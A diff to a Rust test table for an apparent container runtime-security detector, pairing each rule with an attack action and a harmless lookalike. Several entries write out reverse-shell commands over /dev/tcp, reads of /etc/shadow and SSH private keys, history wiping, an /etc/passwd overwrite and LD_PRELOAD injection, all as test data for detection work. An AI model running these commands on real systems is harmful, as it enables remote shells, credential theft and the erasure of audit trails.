@@ -37,6 +37,8 @@ const FREE: &[&str] = &["--security-opt", "seccomp=unconfined"];
 const ADMIN: &[&str] = &["--cap-add", "SYS_ADMIN"];
 const PEER: &[&str] = &["--network", "none"];
 const NET: &[&str] = &["--network", "none", "--cap-add", "NET_ADMIN"];
+/// A library goes before the code of each program of the image.
+const PRELOADED: &[&str] = &["--network", "none", "--env", "LD_PRELOAD=/opt/x.so"];
 
 pub(super) const ACTS: &[Act] = &[
     act(
@@ -281,7 +283,12 @@ pub(super) const ACTS: &[Act] = &[
         &["/act", "userfault"],
         &["/act", "nothing"],
     ),
-    act("RT-0043", NONE, &["/act", "ring"], &["/act", "nothing"]),
+    act(
+        "RT-0043",
+        FREE,
+        &["/act", "ring"],
+        &["/act", "ring-refused"],
+    ),
     act("RT-0044", NONE, &["/act", "attach"], &["/act", "nothing"]),
     act(
         "RT-0046",
@@ -304,8 +311,8 @@ pub(super) const ACTS: &[Act] = &[
     act(
         "RT-0049",
         NET,
+        &["/act", "connect", "203.0.113.9", "3333"],
         &["/act", "connect", "10.9.9.9", "3333"],
-        &["/act", "connect", "127.0.0.1", "3333"],
     ),
     // Ways around those who compare names, paths and calls.
     act(
@@ -466,5 +473,137 @@ pub(super) const ACTS: &[Act] = &[
         ],
         &["/act", "handle", "/etc/hostname"],
         &["/act", "read", "/etc/hostname"],
+    ),
+    // What is ordinary, and what only looks like it.
+    act(
+        "RT-0002",
+        PEER,
+        &["/act", "stream", "0"],
+        &["/usr/lib/git-core/git-daemon", "act", "stream", "0"],
+    ),
+    act(
+        "RT-0002",
+        PRELOADED,
+        &["/usr/lib/git-core/git-daemon", "act", "stream", "0"],
+        &["/act", "listen-input"],
+    ),
+    act(
+        "RT-0002",
+        PEER,
+        &["/act", "stream", "0"],
+        &["/act", "stream", "1"],
+    ),
+    act(
+        "RT-0009",
+        &["--tmpfs", "/run:exec"],
+        &["/act", "copy-run", "/act", "/run/x"],
+        &["/act", "run", "/bin/prog"],
+    ),
+    act(
+        "RT-0010",
+        NONE,
+        &["/opt/.x/prog"],
+        &["/opt/.venv/bin/prog"],
+    ),
+    act(
+        "RT-0011",
+        NONE,
+        &["/bin/sh", "-c", "eval \"$(echo eA== | base64 -d)\""],
+        &["/bin/sh", "-c", "echo \"$KEY\" | base64 -d > /opt/key"],
+    ),
+    act(
+        "RT-0012",
+        NONE,
+        &["/bin/sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
+        &["/bin/sh", "-c", "until echo > /dev/tcp/db/5432; do :; done"],
+    ),
+    act(
+        "RT-0012",
+        &[
+            "--health-cmd",
+            "exec 3<>/dev/tcp/127.0.0.1/80; cat <&3",
+            "--health-interval",
+            "1s",
+        ],
+        &["/bin/sh", "-c", "exec 3<>/dev/tcp/10.0.0.1/80; sh <&3"],
+        &["/act", "wait", "3"],
+    ),
+    act(
+        "RT-0017",
+        NONE,
+        &["/act", "read", "/etc/shadow"],
+        &["/usr/sbin/cron", "act", "read", "/etc/shadow"],
+    ),
+    act(
+        "RT-0017",
+        PRELOADED,
+        &["/usr/sbin/cron", "act", "read", "/etc/shadow"],
+        &["/usr/sbin/cron", "act", "read", "/etc/hostname"],
+    ),
+    act(
+        "RT-0017",
+        &["--tmpfs", "/mnt:exec"],
+        &["/act", "copy-run", "/act", "/mnt/cron", "act", "read", "/etc/shadow"],
+        &["/usr/sbin/cron", "act", "read", "/etc/shadow"],
+    ),
+    act(
+        "RT-0018",
+        NONE,
+        &["/act", "read", "/root/.ssh/id_ed25519"],
+        &["/usr/bin/ssh", "act", "read", "/root/.ssh/id_ed25519"],
+    ),
+    act(
+        "RT-0019",
+        NONE,
+        &["/usr/sbin/useradd", "act", "rename", "/opt/x/prog", "/etc/passwd"],
+        &["/usr/sbin/useradd", "act", "write", "/etc/passwd"],
+    ),
+    act(
+        "RT-0021",
+        NONE,
+        &["/act", "write", "/etc/logrotate.d/x"],
+        &["/act", "read", "/etc/logrotate.d/keep"],
+    ),
+    act(
+        "RT-0025",
+        NONE,
+        &["/act", "chmod", "2755", "/opt/x/prog"],
+        &["/act", "folder-bits", "2775", "/opt/shared"],
+    ),
+    act(
+        "RT-0027",
+        NONE,
+        &["/act", "truncate", "/root/.bash_history"],
+        &["/bin/sh", "act", "truncate", "/root/.bash_history"],
+    ),
+    act(
+        "RT-0027",
+        NONE,
+        &["/act", "symlink", "/dev/null", "/root/.bash_history"],
+        &["/act", "touch", "/var/log/wtmp"],
+    ),
+    act(
+        "RT-0039",
+        NONE,
+        &["/act", "chroot", "/opt"],
+        &["/usr/sbin/haproxy", "act", "chroot", "/opt"],
+    ),
+    act(
+        "RT-0114",
+        NONE,
+        &["/usr/sbin/nginx", "act", "spawn", "/bin/sh", "-c", "id"],
+        &["/usr/sbin/nginx", "act", "spawn", "/bin/prog"],
+    ),
+    act(
+        "RT-0114",
+        NONE,
+        &["/usr/sbin/apache2", "act", "spawn", "/bin/sh", "-c", "id"],
+        &["/usr/sbin/apache2", "act", "spawn", "/bin/sh", "-c", "/usr/sbin/sendmail -t"],
+    ),
+    act(
+        "RT-0115",
+        NONE,
+        &["/bin/sh", "-i"],
+        &["/bin/sh", "-c", "-i"],
     ),
 ];
